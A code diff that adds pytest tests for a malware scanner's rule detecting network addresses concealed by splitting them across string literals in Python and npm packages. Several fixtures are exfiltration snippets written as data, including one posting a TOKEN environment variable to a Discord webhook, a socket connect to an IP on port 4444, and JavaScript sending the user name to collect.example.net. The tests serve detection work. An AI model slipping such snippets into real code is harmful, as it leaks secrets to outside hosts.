@@ -9,7 +9,7 @@ import re
 
 import pytest
 
-from tests.analysis.builders import package, run_rule, sdist
+from tests.analysis.builders import npm_tarball, package, run_rule, sdist
 from threatfeed.analysis import Engine
 from threatfeed.analysis.rules import hidden
 from threatfeed.analysis.rules.base import Rule
@@ -390,3 +390,66 @@ def test_decoder_returns_are_the_word_bounded_matches_of_the_regex(
         data = b"".join(rng.choices(pieces, k=rng.randint(0, 40)))
         expected = [match.start() for match in bounded.finditer(data)]
         assert hidden._returns(data) == expected, data
+
+
+@pytest.mark.parametrize(
+    ("code", "address"),
+    [
+        (
+            "import requests, os\nrequests.post('htt' + 'ps://disc' + 'ord.com/api/webhooks/1/x',"
+            " data=os.environ.get('TOKEN'))\n",
+            "https://discord.com",
+        ),
+        (
+            "import socket\ns = socket.socket()\ns.connect(('89.39.' + '121.49', 4444))\n",
+            "89.39.121.49",
+        ),
+        (
+            "import requests\nrequests.get('https://col' 'lect.example.net/x')\n",
+            "https://collect.example.net",
+        ),
+    ],
+)
+def test_an_address_split_across_literals_in_code_that_sends_is_concealed(
+    engine: Engine, code: str, address: str
+) -> None:
+    evidence = run_rule(engine, concealed_endpoint_rule, sdist({"tidy_strings/m.py": code}))
+    assert evidence[0]["encoding"] == "concatenation"
+    assert evidence[0]["urls"] == [address]
+
+
+def test_an_address_split_in_javascript_is_concealed(engine: Engine) -> None:
+    code = (
+        "const h = require('https');\n"
+        "h.get('ht' + 'tps://coll' + 'ect.example.net/' + process.env.USER);\n"
+    )
+    evidence = run_rule(engine, concealed_endpoint_rule, npm_tarball({"index.js": code}))
+    assert evidence[0]["urls"] == ["https://collect.example.net"]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import requests\nrequests.get('https://' + 'api.example.net' + '/v1/x')\n",
+        "import requests\nrequests.get('https://api.example.net/long/' + 'path/x')\n",
+        "import requests\nrequests.get('https://' + host + '.example.net')\n",
+        "VERSION = '1.2.' + '3'\nimport requests\nrequests.get(URL)\n",
+        "print('htt' + 'ps://disc' + 'ord.com')\n",  # sends nothing
+    ],
+)
+def test_urls_joined_after_their_host_or_in_code_that_sends_nothing_are_not(
+    engine: Engine, code: str
+) -> None:
+    archive = sdist({"tidy_strings/m.py": code})
+    assert run_rule(engine, concealed_endpoint_rule, archive) is None
+
+
+def test_a_url_constant_and_the_docstring_after_it_are_not_one_string(engine: Engine) -> None:
+    code = (
+        'import requests\nAPI_BASE_URL = "https://www.example.net"\n'
+        '"""The base of the API call URL."""\nrequests.get(API_BASE_URL)\n'
+    )
+    archive = sdist({"tidy_strings/m.py": code})
+    assert run_rule(engine, concealed_endpoint_rule, archive) is None
+    joined = "import requests\nrequests.get('https://www.example.net' 'The/x')\n"
+    assert run_rule(engine, concealed_endpoint_rule, sdist({"tidy_strings/m.py": joined})) is None
